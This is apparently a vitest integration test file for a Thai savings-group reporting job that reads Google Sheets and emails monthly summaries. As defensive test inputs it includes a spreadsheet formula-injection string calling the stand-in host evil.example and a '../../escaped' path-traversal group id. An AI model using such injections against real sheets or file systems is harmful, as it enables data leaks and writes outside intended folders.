import { mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { simpleParser } from 'mailparser';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { SheetsSource } from '../../adapters/sheets-source.ts';
import { isTemporary } from '../../app/monthly/errors.ts';
import { generateWorkbook } from '../../cli/generate/generate-workbook.ts';
import { runMonthly } from '../../cli/monthly.ts';
import { startSheetsServer } from '../../cli/sheets-serve.ts';
import { writeXlsx } from '../../cli/sources/write-xlsx.ts';
import { formatBaht } from '../../core/index.ts';
import { runCli } from '../helpers/run-cli.ts';

const dir = mkdtempSync(join(tmpdir(), 'sajja-monthly-'));
const sheetsDir = join(dir, 'sheets');
const NOW = () => Date.UTC(2026, 10, 1, 0, 0); // 1 Nov 2026, 07:00 in Bangkok: the job's hour
const noWait = async () => {};
let sheets: Awaited<ReturnType<typeof startSheetsServer>>;

/** Three groups on "Google Sheets" (the stand-in) and one from a file. */
const ids = ['sheet-a', 'sheet-b', 'sheet-c'];
beforeAll(async () => {
  const { mkdirSync } = await import('node:fs');
  mkdirSync(sheetsDir);
  for (const [i, id] of ids.entries()) {
    const wb = generateWorkbook({
      groupId: `g-${id}`,
      groupName: `กลุ่ม ${id}`,
      households: 6,
      months: 4,
      start: '2026-07',
      seed: i + 1,
    });
    writeFileSync(join(sheetsDir, `${id}.xlsx`), await writeXlsx(wb));
  }
  sheets = await startSheetsServer({ dir: sheetsDir });
});
afterAll(async () => {
  await sheets.close();
});

function registry(name: string, extra: Record<string, unknown>[] = []) {
  const path = join(dir, `${name}.json`);
  writeFileSync(
    path,
    JSON.stringify({
      network: { name: 'เครือข่ายทดสอบ', coordinators: ['net@example.org'] },
      groups: [
        ...ids.map((id) => ({
          group_id: `g-${id}`,
          spreadsheet_id: id,
          coordinators: [`${id}@example.org`],
          treasurer: 't@example.org',
        })),
        ...extra,
      ],
    }),
  );
  return path;
}

const run = (name: string, options: Partial<Parameters<typeof runMonthly>[0]> = {}) =>
  runMonthly({
    registryFile: registry(name),
    month: '2026-10',
    outbox: join(dir, name, 'out'),
    dataDir: join(dir, name, 'data'),
    sheetsUrl: sheets.url,
    now: NOW,
    sleep: noWait,
    ...options,
  });

describe('the monthly job on a laptop (issue 12)', () => {
  it('sends each group’s report with at most 2 reads and 1 write a group, and the network report once', async () => {
    sheets.counts.clear();
    const result = await run('plain');
    expect(result.groups.map((g) => g.status)).toEqual(['sent', 'sent', 'sent']);
    for (const id of ids) expect(sheets.counts.get(id)).toEqual({ reads: 2, writes: 1 });
    expect(result.network.sent_to).toEqual(['net@example.org']);
    const out = readdirSync(join(dir, 'plain', 'out')).sort();
    expect(out).toEqual([
      'g-sheet-a-2026-10.eml',
      'g-sheet-b-2026-10.eml',
      'g-sheet-c-2026-10.eml',
      'network-2026-10.eml',
    ]);
    // the summary tab: plain values, no other tab touched; the second month is one write too
    const book = sheets.books.get('sheet-a')!;
    const summaryTab = book.tabs.find((t) => t.name === 'สรุป (summary)')!;
    expect(summaryTab.rows.flat().every((c) => typeof c === 'string' || typeof c === 'number')).toBe(true);
    expect(summaryTab.rows[2]).toEqual(['เดือน (month)', '2026-10']);
    sheets.counts.clear();
    await run('plain-again', { month: '2026-09' });
    expect(sheets.counts.get('sheet-a')).toEqual({ reads: 2, writes: 1 });
  });

  it('writes the summary tab as plain values (RAW): a formula typed as text arrives as text, no other tab touched', async () => {
    const { SheetsSource } = await import('../../adapters/sheets-source.ts');
    const book = sheets.books.get('sheet-b')!;
    const before = JSON.stringify(book.tabs.filter((t) => t.name !== 'สรุป (summary)'));
    const source = new SheetsSource({ rootUrl: sheets.url });
    await source.read({ spreadsheet_id: 'sheet-b' });
    await source.writeSummary({ spreadsheet_id: 'sheet-b' }, [
      ['name', '=IMPORTXML("http://evil.example","//a")'],
      ['n', 5],
    ]);
    const tab = book.tabs.find((t) => t.name === 'สรุป (summary)')!;
    expect(tab.rows).toEqual([
      ['name', '=IMPORTXML("http://evil.example","//a")'],
      ['n', 5],
    ]);
    expect(JSON.stringify(book.tabs.filter((t) => t.name !== 'สรุป (summary)'))).toBe(before);
  });

  it('writes emails a real MIME parser reads: Thai subject, HTML and text, the summary’s figures', async () => {
    const raw = readFileSync(join(dir, 'plain', 'out', 'g-sheet-a-2026-10.eml'));
    expect(raw.toString('latin1')).toMatch(/Subject: =\?UTF-8\?/);
    const mail = await simpleParser(raw);
    expect(mail.subject).toContain('ต.ค. 2569');
    expect(mail.html).toContain('<html lang="th">');
    expect(mail.text).toContain('ยอดเงินออม / savings balance:');
    const status = await runCli(
      'summary',
      join(sheetsDir, 'sheet-a.xlsx'),
      '--month',
      '2026-10',
      '--as-of',
      '2026-11-01',
      '--json',
    );
    const summary = JSON.parse(status.out);
    expect(mail.text).toContain(formatBaht(summary.savings.balance));
    expect(mail.html).toContain(formatBaht(summary.loans.outstanding));
    expect((mail.to as { value: { address: string }[] }).value.map((v) => v.address)).toEqual([
      'sheet-a@example.org',
      't@example.org',
    ]);
  });

  it('retries a 429 with backoff, marks a sheet not shared (403) failed in Thai and English, and sends the others', async () => {
    sheets.faults.set('sheet-b', { status: 429, times: 1 });
    sheets.faults.set('sheet-c', { status: 403 });
    try {
      const result = await run('faults');
      const [a, b, c] = result.groups;
      expect([a!.status, b!.status, c!.status]).toEqual(['sent', 'sent', 'failed']);
      expect(c!.error!.th).toContain('ยังไม่ได้แชร์');
      expect(c!.error!.en).toContain('not shared');
    } finally {
      sheets.faults.clear();
    }
  });

  it('retries a worker that crashed after archiving: no second snapshot, exactly one email; a re-run sends nothing; --resend sends again, the network report too', async () => {
    let crashes = 1;
    const first = await run('crash', {
      crashAfterArchive: (group) => group === 'g-sheet-a' && crashes-- > 0,
    });
    expect(first.groups[0]).toMatchObject({ status: 'sent', snapshot: { version: 1, created: false } });
    const out = join(dir, 'crash', 'out');
    expect(readdirSync(out).filter((f) => f.startsWith('g-sheet-a'))).toEqual(['g-sheet-a-2026-10.eml']);
    const history = JSON.parse(
      (await runCli('history', 'g-sheet-a', '--data-dir', join(dir, 'crash', 'data'), '--json')).out,
    );
    expect(history).toHaveLength(1);
    // a re-run of a finished month sends nothing
    const { rmSync } = await import('node:fs');
    rmSync(out, { recursive: true });
    const again = await run('crash');
    expect(again.groups.every((g) => g.status === 'sent')).toBe(true);
    expect(readdirSync(out)).toEqual([]);
    // --resend sends again, and still one snapshot; the network report once more, after the last group
    const resent = await run('crash', { resend: true });
    expect(resent.groups[0]!.snapshot).toMatchObject({ version: 1, created: false });
    expect(resent.network.sent_to).toEqual(['net@example.org']);
    expect(
      readdirSync(out)
        .filter((f) => f.endsWith('.eml'))
        .sort(),
    ).toEqual([
      'g-sheet-a-2026-10.eml',
      'g-sheet-b-2026-10.eml',
      'g-sheet-c-2026-10.eml',
      'network-2026-10.eml',
    ]);
    const network = await simpleParser(readFileSync(join(out, 'network-2026-10.eml')));
    for (const id of ['g-sheet-a', 'g-sheet-b', 'g-sheet-c']) expect(network.html).toContain(id);
  });

  it('sends the example group’s report from examples/registry.json (sajja monthly, exit 0)', async () => {
    const outbox = join(dir, 'example-out');
    const { code, out } = await runCli(
      'monthly',
      '--registry',
      join(import.meta.dirname, '../../examples/registry.json'),
      '--month',
      '2026-10',
      '--outbox',
      outbox,
      '--data-dir',
      join(dir, 'example-data'),
    );
    expect(code).toBe(0);
    expect(out).toContain('✓ kamlon-m11 sent');
    expect(readdirSync(outbox).sort()).toEqual([
      'kamlon-m11-2026-10-1.line.json',
      'kamlon-m11-2026-10.eml',
      'network-2026-10.eml',
    ]);
    const line = JSON.parse(readFileSync(join(outbox, 'kamlon-m11-2026-10-1.line.json'), 'utf8'));
    expect(line.messages[0].text).toContain('ต.ค. 2569');
  });
});

describe('the Sheets client holds its limits (issue 18)', () => {
  const source = (limits: { timeoutMs?: number; maxBytes?: number } = {}) =>
    new SheetsSource({ rootUrl: sheets.url, ...limits }, noWait);

  it('makes SPEC §10’s five tries on a failing read, not twenty', async () => {
    sheets.counts.clear();
    sheets.faults.set('sheet-a', { status: 500 });
    try {
      await expect(source().read({ spreadsheet_id: 'sheet-a' })).rejects.toMatchObject({ status: 500 });
      expect(sheets.counts.get('sheet-a')!.reads).toBe(5);
    } finally {
      sheets.faults.clear();
    }
  });

  it('gives up on a sheet that never answers, within its deadline, and says it may be retried', async () => {
    sheets.counts.clear();
    sheets.faults.set('sheet-b', { status: 'hang' });
    try {
      const started = Date.now();
      const failure = await source({ timeoutMs: 300 })
        .read({ spreadsheet_id: 'sheet-b' })
        .catch((e: unknown) => e);
      expect(failure).toMatchObject({ status: 408 });
      expect(isTemporary(failure)).toBe(true);
      expect(sheets.counts.get('sheet-b')!.reads).toBe(5);
      expect(Date.now() - started).toBeLessThan(60_000);
    } finally {
      sheets.faults.clear();
    }
  });

  it('refuses an answer larger than its bound while it streams, without holding it', async () => {
    sheets.faults.set('sheet-c', { status: 'huge' });
    try {
      const before = process.memoryUsage().rss;
      const failure = await source({ maxBytes: 8 * 1024 * 1024 })
        .read({ spreadsheet_id: 'sheet-c' })
        .catch((e: unknown) => e);
      expect(failure).toMatchObject({ status: 413 });
      expect(isTemporary(failure)).toBe(false);
      expect(process.memoryUsage().rss - before).toBeLessThan(200 * 1024 * 1024);
    } finally {
      sheets.faults.clear();
    }
  });
});

describe('one bad registry item never stops the others (issue 18)', () => {
  it('reports the bad items, runs the rest, and writes nothing outside the outbox', async () => {
    const { existsSync } = await import('node:fs');
    const path = registry('bad-items', [
      { group_id: '../../escaped', spreadsheet_id: 'sheet-a', coordinators: ['x@example.org'] },
      { group_id: 'typo', spreadsheet_id: 'sheet-a', coordinators: ['not-an-address'] },
      { group_id: 'g-sheet-a', spreadsheet_id: 'sheet-a', coordinators: ['again@example.org'] },
    ]);
    const result = await runMonthly({
      registryFile: path,
      month: '2026-10',
      outbox: join(dir, 'bad-items', 'out'),
      dataDir: join(dir, 'bad-items', 'data'),
      sheetsUrl: sheets.url,
      now: NOW,
      sleep: noWait,
    });
    expect(result.groups.map((g) => [g.group_id, g.status])).toEqual([
      ['g-sheet-a', 'sent'],
      ['g-sheet-b', 'sent'],
      ['g-sheet-c', 'sent'],
    ]);
    expect(result.invalid!.map((p) => p.group_id)).toEqual(['../../escaped', 'typo', 'g-sheet-a']);
    expect(existsSync(join(dir, 'escaped-2026-10.eml'))).toBe(false);
    // the repeated id was not sent twice
    expect(readdirSync(join(dir, 'bad-items', 'out')).filter((f) => f.startsWith('g-sheet-a'))).toEqual([
      'g-sheet-a-2026-10.eml',
    ]);
  });
});
